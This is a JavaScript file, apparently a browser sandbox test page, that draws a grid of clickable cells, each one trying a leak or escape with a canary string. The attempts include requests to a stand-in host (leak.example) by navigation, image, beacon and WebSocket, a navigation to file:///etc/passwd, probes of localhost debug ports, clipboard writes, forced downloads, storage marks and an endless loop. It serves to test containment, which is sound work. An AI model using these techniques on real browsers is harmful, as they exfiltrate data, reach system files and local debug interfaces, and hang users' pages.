// Eight columns and four rows of cells, 40 px each. A click marks a cell and then tries what the cell stands for; keys draw what they carry.
const SECRET = 'CANARY-7f3a-secret';
const pen = document.getElementById('view').getContext('2d');
const link = document.getElementById('link');
const follow = (href, name) => {
  link.href = href;
  if (name) link.download = name;
  else link.removeAttribute('download');
  link.click();
};
const burn = (ms) => { for (let n = 0; n < ms * 20000; n += 1) Math.sqrt(n); };
const deeds = [
  () => { alert(SECRET); confirm(SECRET); prompt(SECRET, SECRET); },
  () => { document.title = SECRET; },
  () => { console.log(SECRET); console.error(SECRET); console.table([SECRET]); },
  () => { throw new Error(SECRET); },
  () => { Promise.reject(new Error(SECRET)); },
  () => { location.href = `http://leak.example/${SECRET}`; },
  () => { location.href = 'file:///etc/passwd'; },
  () => { location.href = `view-source:${location.href}`; },
  () => { location.href = 'chrome://version'; },
  () => { location.href = 'devtools://devtools/bundled/inspector.html'; },
  () => { follow(URL.createObjectURL(new Blob([SECRET])), `${SECRET}.txt`); },
  () => { follow(`data:text/plain,${SECRET}`, `${SECRET}.txt`); },
  () => { open(`about:blank#${SECRET}`); open(location.href, '_blank', 'popup'); },
  () => { navigator.clipboard?.writeText(SECRET); document.execCommand('copy'); },
  () => { document.getElementById('file').click(); },
  () => { print(); },
  () => { document.documentElement.requestFullscreen?.(); document.body.requestPointerLock?.(); },
  () => { for (const port of [9222, 9229, 8080, 80]) fetch(`http://127.0.0.1:${port}/json?${SECRET}`).catch(() => {}); },
  () => { fetch(`http://${SECRET.toLowerCase()}.leak.example/`).catch(() => {}); new Image().src = `//${SECRET}.leak.example/a.png`; },
  () => { history.pushState({}, '', `#${SECRET}`); location.hash = SECRET; },
  () => { localStorage.setItem('mark', SECRET); document.cookie = `mark=${SECRET}; max-age=99999`; sessionStorage.setItem('mark', SECRET); },
  () => { addEventListener('beforeunload', (event) => { event.preventDefault(); event.returnValue = SECRET; }); },
  () => { for (;;) burn(1); },
  () => { burn(40); },
  () => { navigator.sendBeacon('http://leak.example/', SECRET); new WebSocket('ws://leak.example/'); },
  () => { Notification?.requestPermission?.(); navigator.share?.({ text: SECRET }); navigator.geolocation?.getCurrentPosition(() => {}); },
  () => { location.href = `mailto:leak@leak.example?body=${SECRET}`; },
  () => { document.open(); document.write(`<title>${SECRET}</title><body style="margin:0;background:#303030">`); document.close(); },
  () => { navigator.serviceWorker?.register('worker.js').catch(() => {}); new Worker(URL.createObjectURL(new Blob([`postMessage('${SECRET}')`]))); },
  () => { window.name = SECRET; close(); },
];
let clicks = 0;
const opened = 'mark' in localStorage || document.cookie.includes('mark') || 'mark' in sessionStorage;
pen.fillStyle = opened ? '#ff0000' : '#3c4660';
for (let at = 0; at < 32; at += 1) pen.fillRect((at % 8) * 40 + 2, Math.floor(at / 8) * 40 + 2, 36, 36);
pen.fillStyle = `rgb(${Math.random() * 255} ${Math.random() * 255} ${Date.now() % 251})`; // chance and clock
pen.fillRect(280, 160, 40, 40);

document.getElementById('view').addEventListener('pointerdown', (event) => {
  const at = Math.floor(event.offsetY / 40) * 8 + Math.floor(event.offsetX / 40);
  clicks += 1; // three colours in turn, so that a second click on a cell can be seen too
  pen.fillStyle = event.button ? '#ff0000' : ['#ffd23f', '#ffb03f', '#ff903f'][clicks % 3];
  pen.fillRect((at % 8) * 40 + 8, Math.floor(at / 8) * 40 + 8, 24, 24);
  deeds[at]?.();
});
addEventListener('contextmenu', () => { pen.fillStyle = '#ff00ff'; pen.fillRect(0, 0, 320, 200); });
addEventListener('keydown', (event) => {
  pen.fillStyle = event.ctrlKey || event.altKey || event.metaKey ? '#ff0000' : '#3ddc84';
  if (!['Control', 'Alt', 'Shift'].includes(event.key)) pen.fillRect(60, 164, (event.key.charCodeAt(0) % 50) * 4 + 10, 20);
});
addEventListener('dragstart', (event) => { event.dataTransfer.setData('text/plain', SECRET); event.dataTransfer.setData('DownloadURL', `text/plain:a.txt:data:,${SECRET}`); });
